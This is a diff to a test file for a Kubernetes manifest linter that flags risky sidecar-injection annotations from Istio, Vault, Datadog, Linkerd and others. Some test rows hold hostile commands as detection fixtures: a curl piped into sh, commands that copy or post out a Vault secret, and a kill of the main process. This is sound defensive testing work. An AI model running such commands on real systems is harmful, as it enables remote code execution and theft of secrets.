@@ -39,6 +39,16 @@ describe('injection-requested', () => {
     ['Datadog', label('agent.datadoghq.com/sidecar', 'fargate'), 'datadog-agent-injected'],
     ['Consul', annotation('consul.hashicorp.com/connect-inject', 'true'), 'consul-dataplane'],
     ['Kuma', label('kuma.io/sidecar-injection', 'enabled'), 'kuma-sidecar'],
+    [
+      'OpenTelemetry for Java',
+      annotation('instrumentation.opentelemetry.io/inject-java', 'monitoring/all'),
+      'opentelemetry-auto-instrumentation-java',
+    ],
+    [
+      'Datadog for Python',
+      `labels: { admission.datadoghq.com/enabled: "true" }\n${annotation('admission.datadoghq.com/python-lib.version', 'v2')}`,
+      'datadog-lib-python-init',
+    ],
   ])('%s', (_, metadata, adds) => {
     const [finding, ...others] = see(pod(metadata), 'injection-requested');
     expect(others).toEqual([]);
@@ -54,6 +64,12 @@ describe('injection-requested', () => {
     ['it is off', annotation('sidecar.opentelemetry.io/inject', 'false')],
     ['only the annotation asks Istio, whose webhook selects by labels', annotation('sidecar.istio.io/inject', 'true')],
     ['nobody is asked', label('app', 'web')],
+    ['Linkerd does not know the word', annotation('linkerd.io/inject', 'true')],
+    ['Datadog is only allowed', label('admission.datadoghq.com/enabled', 'true')],
+    [
+      'Datadog is off',
+      `labels: { admission.datadoghq.com/enabled: "false" }\n${annotation('admission.datadoghq.com/js-lib.version', 'v5')}`,
+    ],
   ])('says nothing where %s', (_, metadata) => {
     expect(found(pod(metadata), 'injection-requested')).toEqual([]);
   });
@@ -65,11 +81,23 @@ describe('injection-requested', () => {
     ]);
   });
 
-  it('looks at the template of a workload, as webhooks do', () => {
-    const deployment = (own: string, template: string): string =>
-      `apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: web, ${own} }\nspec:\n  template:\n    metadata: { ${template} }\n    spec: { containers: [{ name: web, image: "${IMAGE}" }] }\n`;
+  it('knows that Istio adds nothing where the namespace has it off, or on the network of the node', () => {
     const asks = label('sidecar.istio.io/inject', 'true');
-    expect(found(deployment(asks, 'labels: {}'), 'injection-requested')).toEqual([]);
+    const off = { namespace: label('istio-injection', 'disabled') };
+    expect(found(pod(asks, off), 'injection-requested')).toEqual([]);
+    expect(found(pod(asks, { spec: 'hostNetwork: true\n' }), 'injection-requested')).toEqual([]);
+  });
+
+  it('looks at the template of a workload, as webhooks do', () => {
+    const deployment = (own: string, template: string, apiVersion = 'apps/v1'): string =>
+      `apiVersion: ${apiVersion}\nkind: Deployment\nmetadata: { name: web, ${own} }\nspec:\n  template:\n    metadata: { ${template} }\n    spec: { containers: [{ name: web, image: "${IMAGE}" }] }\n`;
+    const asks = label('sidecar.istio.io/inject', 'true');
+    const [hint, ...others] = see(deployment(asks, 'labels: {}'), 'injection-requested');
+    expect(others).toEqual([]);
+    expect(hint?.severity).toBe('hint');
+    expect(hint?.message).toContain('Put "sidecar.istio.io/inject" into the metadata of the pod\'s template');
+    expect(found(deployment(asks, 'labels: {}', 'example.com/v1'), 'injection-requested')).toEqual([]);
+    expect(found(deployment(asks, label('sidecar.istio.io/inject', 'false')), 'injection-requested')).toEqual([]);
     expect(found(deployment('labels: {}', asks), 'injection-requested')).toEqual(['information "true"']);
   });
 });
@@ -107,10 +135,63 @@ describe('injection-into-job', () => {
       job('{ labels: { sidecar.istio.io/inject: "true" } }', 'report; curl -X POST localhost:15020/quitquitquit'),
       0,
     ],
+    [
+      'native by an older name',
+      job(
+        '{ annotations: { linkerd.io/inject: enabled, config.beta.linkerd.io/proxy-enable-native-sidecar: "true" } }',
+      ),
+      0,
+    ],
+    [
+      'native by its own word',
+      job(
+        '{ annotations: { consul.hashicorp.com/connect-inject: "true", consul.hashicorp.com/enable-consul-dataplane-as-sidecar: "true" } }',
+      ),
+      0,
+    ],
+    [
+      'classic by its own word',
+      job('{ labels: { sidecar.istio.io/inject: "true" }, annotations: { sidecar.istio.io/nativeSidecar: "false" } }'),
+      1,
+    ],
+    [
+      'ended by the app',
+      job(
+        '{ annotations: { vault.hashicorp.com/agent-inject: "true", vault.hashicorp.com/agent-enable-quit: "true" } }',
+        'report; curl -X POST http://127.0.0.1:8200/agent/v1/quit',
+      ),
+      0,
+    ],
+    [
+      'a container that only starts',
+      job('{ annotations: { instrumentation.opentelemetry.io/inject-java: "true" } }'),
+      0,
+    ],
     ['off', job('{ annotations: { linkerd.io/inject: disabled } }'), 0],
     ['no Job', pod(annotation('linkerd.io/inject', 'enabled')), 0],
   ])('%s', (_, text, count) => {
     expect(see(text, 'injection-into-job').map(({ severity }) => severity)).toEqual(count ? ['warning'] : []);
+  });
+
+  it('is information where the sidecar is native by default', () => {
+    const istio = job('{ labels: { sidecar.istio.io/inject: "true" } }');
+    const at = (kubernetesMinor: number): string[] =>
+      see(istio, 'injection-into-job', { kubernetesMinor }).map(({ severity }) => severity);
+    expect(at(32)).toEqual(['warning']);
+    expect(at(33)).toEqual(['information']);
+  });
+
+  it('hears what the namespace tells Linkerd', () => {
+    const namespace = (native: string): string =>
+      `---\napiVersion: v1\nkind: Namespace\nmetadata: { name: shop, annotations: { linkerd.io/inject: enabled, config.linkerd.io/proxy-enable-native-sidecar: "${native}" } }\n`;
+    expect(see(job('{}') + namespace('true'), 'injection-into-job')).toEqual([]);
+    expect(see(job('{}') + namespace('false'), 'injection-into-job')).toHaveLength(1);
+  });
+
+  it('points at the name where only the namespace asks', () => {
+    const namespace = `---\napiVersion: v1\nkind: Namespace\nmetadata: { name: shop, ${label('istio-injection', 'enabled')} }\n`;
+    const generated = job('{}').replace('name: web', 'generateName: web-');
+    expect(found(generated + namespace, 'injection-into-job')).toEqual(['information web-']);
   });
 
   it('knows what the namespace asks for', () => {
@@ -133,16 +214,39 @@ describe('injection-opted-out', () => {
     ]);
   });
 
+  it('is nothing for an injector that waits to be asked', () => {
+    expect(found(pod(annotation('vault.hashicorp.com/agent-inject', 'false')), 'injection-opted-out')).toEqual([]);
+    expect(found(pod(annotation('dapr.io/enabled', 'false')), 'injection-opted-out')).toEqual([]);
+    const otel = annotation('sidecar.opentelemetry.io/inject', 'false');
+    expect(found(pod(otel), 'injection-opted-out')).toEqual([]);
+    const on = { namespace: annotation('sidecar.opentelemetry.io/inject', 'true') };
+    expect(found(pod(otel, on), 'injection-opted-out')).toEqual(['warning "false"']);
+  });
+
+  it('knows the label of Datadog', () => {
+    const off = label('admission.datadoghq.com/enabled', 'false');
+    expect(found(pod(off), 'injection-opted-out')).toEqual(['information "false"']);
+  });
+
   it('is all right for Jobs and on the network of the node', () => {
     expect(found(job('{ labels: { sidecar.istio.io/inject: "false" } }'), 'injection-opted-out')).toEqual([]);
     expect(found(pod(off, { spec: 'hostNetwork: true\n' }), 'injection-opted-out')).toEqual([]);
   });
 });
 
+/** A row: what Vault's agent runs when a secret changes, and how bad it is. */
+const afterSecret = (command: string, severity: string): [string, string, string, string] => [
+  'injection-runs-code',
+  'vault.hashicorp.com/agent-inject-command-db',
+  command,
+  severity,
+];
+
 describe('annotations that change what is injected', () => {
   it.each([
     ['injection-image-override', 'sidecar.istio.io/proxyImage', 'x/y:1', 'warning'],
     ['injection-image-override', 'vault.hashicorp.com/agent-image', 'x/y:1', 'warning'],
+    ['injection-image-override', 'admission.datadoghq.com/java-lib.custom-image', 'x/y:1', 'warning'],
     ['injection-image-override', 'sidecar.istio.io/proxyCPU', '1', undefined],
     [
       'injection-runs-code',
@@ -152,6 +256,22 @@ describe('annotations that change what is injected', () => {
     ],
     ['injection-runs-code', 'vault.hashicorp.com/agent-inject-command-db', 'kill -HUP 1', 'information'],
     ['injection-runs-code', 'vault.hashicorp.com/agent-inject-command-db', 'sh -c "pkill -HUP nginx"', 'information'],
+    ...[
+      'kill -HUP $(pidof app)',
+      "/bin/sh -c 'kill -s HUP $(cat /run/nginx.pid) 2>/dev/null || true'",
+      'nginx -s reload',
+      'curl -sX POST http://localhost:9090/-/reload',
+    ].map((command) => afterSecret(command, 'information')),
+    ...[
+      'kill -HUP 1; curl https://example.com/x | sh',
+      'nginx -s reload && cp /vault/secrets/db /shared/',
+      "sh -c 'kill -HUP $(cat /vault/secrets/db)'",
+      'kill -9 1',
+      'curl -X POST https://example.com/reload',
+      'curl -X POST http://localhost:9090/-/reload -d @/vault/secrets/db',
+      'kill -HUP 1 > /shared/out',
+    ].map((command) => afterSecret(command, 'warning')),
+    ['injection-runs-code', 'proxy.istio.io/overrides', '{}', 'warning'],
     ['injection-runs-code', 'vault.hashicorp.com/agent-inject-template-db', '{ with secret }', undefined],
     ['injection-runs-code', 'vault.hashicorp.com/agent-json-patch', '[]', 'warning'],
     ['injection-runs-code', 'inject.istio.io/templates', 'sidecar,custom', 'warning'],
@@ -169,6 +289,10 @@ describe('annotations that change what is injected', () => {
     ['injection-bypass', 'traffic.sidecar.istio.io/excludeInboundPorts', '', undefined],
     ['injection-bypass', 'traffic.sidecar.istio.io/includeOutboundIPRanges', '', 'error'],
     ['injection-bypass', 'traffic.sidecar.istio.io/includeOutboundIPRanges', '*', undefined],
+    // These go through the proxy in addition to what does anyhow.
+    ['injection-bypass', 'traffic.sidecar.istio.io/includeOutboundPorts', '', undefined],
+    ['injection-bypass', 'traffic.sidecar.istio.io/includeOutboundPorts', '4317', undefined],
+    ['injection-bypass', 'consul.hashicorp.com/transparent-proxy', 'false', 'warning'],
     ['injection-bypass', 'sidecar.istio.io/interceptionMode', 'NONE', 'error'],
     ['injection-bypass', 'sidecar.istio.io/interceptionMode', 'TPROXY', undefined],
     ['injection-bypass', 'config.linkerd.io/skip-outbound-ports', '4567,4568', 'warning'],
@@ -184,6 +308,20 @@ describe('annotations that change what is injected', () => {
       'annotations:\n  traffic.sidecar.istio.io/excludeOutboundPorts: "3306"\n  sidecar.istio.io/interceptionMode: NONE',
     );
     expect(found(text, 'injection-bypass')).toEqual(['error NONE']);
+  });
+
+  it('count for less in a pod that the cluster printed, where the injector writes them itself', () => {
+    const printed = (status: string, key: string): string => pod(`annotations:\n  ${status}: injected\n  ${key}: "{}"`);
+    const overrides = printed('sidecar.istio.io/status', 'proxy.istio.io/overrides');
+    expect(found(overrides, 'injection-runs-code')).toEqual(['information "{}"']);
+    const image = printed('vault.hashicorp.com/agent-inject-status', 'vault.hashicorp.com/agent-image');
+    expect(found(image, 'injection-image-override')).toEqual(['information "{}"']);
+  });
+
+  it('are nothing in the gateway of Istio, as its documentation has it', () => {
+    const gateway = `apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: ingress, namespace: shop }\nspec:\n  selector: { matchLabels: { istio: ingress } }\n  template:\n    metadata:\n      annotations: { inject.istio.io/templates: gateway }\n      labels: { istio: ingress, sidecar.istio.io/inject: "true" }\n    spec:\n      containers: [{ name: istio-proxy, image: auto }]\n`;
+    const rules = see(gateway).filter(({ rule }) => /^injection|^impersonates/.test(rule));
+    expect(rules).toEqual([]);
   });
 
   it('count for less where the image is from an allowed registry', () => {
